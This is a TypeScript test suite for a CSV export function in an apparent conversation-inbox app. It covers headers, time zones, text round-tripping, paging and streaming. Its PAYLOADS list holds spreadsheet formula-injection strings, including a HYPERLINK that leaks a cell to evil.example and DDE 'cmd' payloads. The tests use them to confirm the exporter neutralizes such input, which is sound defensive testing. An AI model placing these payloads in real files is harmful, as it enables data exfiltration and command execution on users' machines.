import { expect } from '@open-wc/testing';
import { InboxError } from '../../src/data/errors.js';
import { createMemorySource } from '../../src/data/memory.js';
import type { Conversation, InboxDataSource, Page } from '../../src/data/types.js';
import { COLUMNS, type ColumnId } from '../../src/format/columns.js';
import { DEFAULT_STRINGS } from '../../src/strings.js';
import { exportCsv } from '../../src/export/export-csv.js';
import { rejectionOf } from '../data/api-session.js';
import { makeConversation, makeConversations } from '../fixtures/conversations.js';
import { FORMULA_START, readCsv } from './csv-file.js';

/** What the file holds: columns, the table's texts, safety against formulas, round-trips. */

/** Every column that has text, in the order the table would show them. */
const TEXT_COLUMNS = [...COLUMNS.values()].filter((column) => column.text).map((column) => column.id);
const ALL_COLUMNS: ColumnId[] = ['copy', 'play', ...TEXT_COLUMNS];
/** Columns the file writes with the table's own text (labels, names); the others carry the data itself. */
const LABELLED = ['agent', 'callerName', 'agentNumber', 'direction', 'status', 'summary', 'type', 'customer', 'priority', 'assignee', 'tags'] as const;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

/** A cell as the file holds it: text a spreadsheet could run gets a leading quote, unless it is only an E.164 number. */
const asCell = (text: string | undefined = '') => (FORMULA_START.test(text) && !/^\+[0-9]{7,15}$/.test(text) ? `'${text}` : text);

/** A conversation whose every text field carries `payload`. */
function hostile(index: number, payload: string): Conversation {
  return {
    id: `${payload}#${index}`,
    source: payload,
    channelRaw: payload,
    direction: payload as Conversation['direction'],
    status: payload,
    priority: payload,
    callerId: payload,
    callerName: payload,
    customer: { id: payload, name: payload, phone: payload, email: payload },
    agent: { id: payload, name: payload, versionId: payload },
    agentNumber: payload,
    summary: payload,
    durationSeconds: 65,
    createdAt: '2026-03-01T10:00:00Z',
    lastActivityAt: '2026-03-01T11:00:00Z',
    recordingUrl: payload,
    assignee: { id: payload, name: payload },
    tags: [payload, 'b'],
    raw: payload,
  };
}

describe('exportCsv file contents', () => {
  it('starts with a UTF-8 BOM, then id and link, the chosen columns in order, participants, and the instants', async () => {
    const source = createMemorySource(makeConversations(3));
    const file = await exportCsv(source, {}, { columns: ['summary', 'copy', 'time', 'callerId', 'duration', 'play', 'date'], timeZone: 'UTC' });

    const { bom, text, header } = await readCsv(file);
    expect(bom).to.equal(true);
    expect(file.type).to.equal('text/csv;charset=utf-8');
    expect(header).to.deep.equal([
      'Conversation ID',
      'Detail link',
      'Summary',
      'Caller ID',
      'Duration (seconds)',
      'Recording URL',
      'Other participants',
      'Created (UTC)',
    ]);
    expect(text.split('\r\n')).to.have.length(5, 'header, 3 rows, and the final CRLF');
    expect(text.endsWith('\r\n')).to.equal(true);
  });

  it('writes the data: labels as the table shows them, the real caller id, seconds, participants, instants with the zone offset', async () => {
    const conversations = makeConversations(30, (index) => ({
      recordingUrl: index % 2 ? `/api/recordings/conv_${index}.wav` : undefined,
      callerId: index % 3 ? `+1646555${String(index).padStart(4, '0')}` : `guest_${index}`,
      tags: ['vip', `t${index}`],
      assignee: { id: `u${index}`, name: `Ünïcødé ${index}` },
      extraParticipants: index % 4 ? undefined : [`cc${index}@example.com`, 'boss@example.com'],
      unreadCount: index * 1000,
      priority: 'high',
      lastActivityAt: '2026-11-01T23:30:00Z',
    }));
    const byId = new Map(conversations.map((c) => [c.id, c]));
    const context = { strings: DEFAULT_STRINGS };

    const file = await exportCsv(createMemorySource(conversations), {}, {
      columns: ALL_COLUMNS,
      timeZone: 'Asia/Tokyo',
      detailUrlTemplate: '/inbox/{id}',
      pageSize: 7,
    });

    const { rows } = await readCsv(file);
    expect(rows).to.have.length(30);
    for (const row of rows) {
      const conversation = byId.get(row['Conversation ID']!)!;
      for (const id of LABELLED) {
        expect(row[DEFAULT_STRINGS.columns[id]!], id).to.equal(COLUMNS.get(id)!.text!(conversation, context) ?? '');
      }
      expect(row['Caller ID'], 'the real caller id, guests too, E.164 without a quote').to.equal(conversation.callerId);
      expect(row.Unread).to.equal(String(conversation.unreadCount));
      expect(row['Duration (seconds)']).to.equal(String(conversation.durationSeconds));
      expect(row['Other participants']).to.equal(conversation.extraParticipants?.join('; ') ?? '');
      expect(new Date(row['Created (Asia/Tokyo)']!).toISOString()).to.equal(new Date(conversation.createdAt!).toISOString());
      expect(row['Created (Asia/Tokyo)']).to.match(/\+09:00$/);
      expect(row['Detail link']).to.equal(new URL(`/inbox/${encodeURIComponent(conversation.id)}`, location.href).href);
      expect(row['Recording URL']).to.equal(conversation.recordingUrl ? new URL(conversation.recordingUrl, location.href).href : '');
    }
    // The time zone really applies: 23:30 UTC is the next morning in Tokyo.
    expect(rows[0]!['Last activity (Asia/Tokyo)']).to.equal('2026-11-02T08:30:00+09:00');
    expect(rows.some((row) => row['Caller ID']!.startsWith('guest_'))).to.equal(true);
  });

  it('leaves missing values empty', async () => {
    const bare: Conversation = { id: 'bare', source: 'memory', raw: {} };
    const { rows } = await readCsv(await exportCsv(createMemorySource([bare]), {}, { columns: ALL_COLUMNS }));
    const { 'Conversation ID': id, 'Detail link': link, ...rest } = rows[0]!;
    expect(id).to.equal('bare');
    expect(link).to.equal('https://app.anyreach.ai/conversations/bare');
    expect(Object.values(rest).every((value) => value === ''), JSON.stringify(rest)).to.equal(true);
  });

  it('neutralizes formula payloads in every column', async () => {
    const conversations = PAYLOADS.flatMap((payload, index) => [hostile(index, payload), hostile(index + PAYLOADS.length, payload)]);
    const byId = new Map(conversations.map((c) => [c.id, c]));
    const context = { strings: DEFAULT_STRINGS };

    const file = await exportCsv(createMemorySource(conversations), {}, { columns: ALL_COLUMNS });

    const { header, rows } = await readCsv(file);
    expect(rows).to.have.length(conversations.length);
    const neutralized = new Set<string>();
    for (const row of rows) {
      for (const name of header) {
        const cell = row[name]!;
        expect(FORMULA_START.test(cell), `${name}: ${JSON.stringify(cell)}`).to.equal(false);
        if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) neutralized.add(name);
      }
      // The id comes back whole behind its quote, so it still identifies the row.
      const conversation = byId.get(row['Conversation ID']!.slice(1))!;
      for (const id of LABELLED) {
        expect(row[DEFAULT_STRINGS.columns[id]!], id).to.equal(asCell(COLUMNS.get(id)!.text!(conversation, context)));
      }
      expect(row['Caller ID']).to.equal(asCell(conversation.callerId));
    }
    // Every column that can carry outside text had a payload to neutralize.
    const outsideText = ['agent', 'callerId', 'callerName', 'agentNumber', 'direction', 'status', 'summary', 'type', 'customer', 'priority', 'assignee', 'tags'];
    expect([...neutralized].sort()).to.deep.equal(
      [...outsideText.map((id) => DEFAULT_STRINGS.columns[id]!), 'Conversation ID'].sort(),
    );
    // An unsafe recording URL never reaches the file; the link encodes the id.
    expect(rows.every((row) => row['Recording URL'] === '')).to.equal(true);
    expect(rows.every((row) => row['Detail link']!.startsWith('https://app.anyreach.ai/conversations/'))).to.equal(true);
  });

  it('round-trips quotes, commas, line breaks and non-Latin text', async () => {
    const values = [
      'She said "no, thanks", then hung up',
      'line one\nline two\r\nline three\rend',
      '山田 太郎',
      'Ελένη Παπαδοπούλου',
      'مرحبا بالعالم',
      'Привет, мир',
      '👋🏽 emoji & combining é',
      '"',
      ',',
    ];
    const conversations = values.map((value, index) => makeConversation(index, { summary: value, callerName: value, tags: [value] }));

    const { rows } = await readCsv(await exportCsv(createMemorySource(conversations), {}, { columns: ['callerName', 'summary', 'tags'] }));

    const byId = new Map(rows.map((row) => [row['Conversation ID'], row]));
    values.forEach((value, index) => {
      const row = byId.get(conversations[index]!.id)!;
      expect(row['Caller Name']).to.equal(value);
      expect(row.Summary).to.equal(value);
      expect(row.Tags).to.equal(value);
    });
  });

  it('writes a conversation that pages repeat only once', async () => {
    const conversations = makeConversations(25);
    // Offset pages that overlap, as offset paging does when rows arrive meanwhile.
    const overlapping: InboxDataSource = {
      id: 'overlapping',
      capabilities: { ...createMemorySource([]).capabilities, maxPageSize: 10 },
      async fetchPage({ continuation }): Promise<Page> {
        const offset = (continuation as number | undefined) ?? 0;
        const end = offset + 10;
        return { items: conversations.slice(offset, end), next: end < conversations.length ? end - 3 : null };
      },
    };

    const { rows } = await readCsv(await exportCsv(overlapping, {}, { columns: ['summary'] }));

    expect(rows.map((row) => row['Conversation ID'])).to.deep.equal(conversations.map((c) => c.id));
  });

  it('rejects with a typed error instead of looping when a source keeps answering the same page', async () => {
    const stuck: InboxDataSource = {
      id: 'stuck',
      capabilities: createMemorySource([]).capabilities,
      async fetchPage(): Promise<Page> {
        return { items: [makeConversation(1)], next: 5 };
      },
    };
    const error = await rejectionOf(exportCsv(stuck, {}, {}));
    expect(error).to.be.instanceOf(InboxError);
    expect((error as InboxError).kind).to.equal('bad_response');
  });

  it('lets the page run between pages: a timer set before the export fires while it is still going', async () => {
    const source = createMemorySource(makeConversations(5000));
    let exported = 0;
    let exportedWhenTimerRan: number | undefined;
    setTimeout(() => (exportedWhenTimerRan = exported), 0);

    await exportCsv(source, {}, { pageSize: 500, onProgress: (progress) => (exported = progress.exported) });

    expect(exportedWhenTimerRan).to.be.a('number').and.be.lessThan(5000);
  });

  it('streams to a writable: the same bytes, closed at the end', async () => {
    const source = createMemorySource(makeConversations(12));
    const chunks: string[] = [];
    let closed = false;
    const result = await exportCsv(source, {}, {
      pageSize: 5,
      writable: {
        write: async (chunk) => void chunks.push(chunk),
        close: async () => void (closed = true),
        abort: async () => undefined,
      },
    });

    expect(result).to.equal(undefined);
    expect(closed).to.equal(true);
    expect(chunks.length, 'header, then one chunk per page').to.equal(4);
    const streamed = new Blob(chunks);
    const built = await exportCsv(source, {}, { pageSize: 5 });
    expect(await streamed.text()).to.equal(await built.text());
    expect((await readCsv(streamed)).bom).to.equal(true);
  });
});
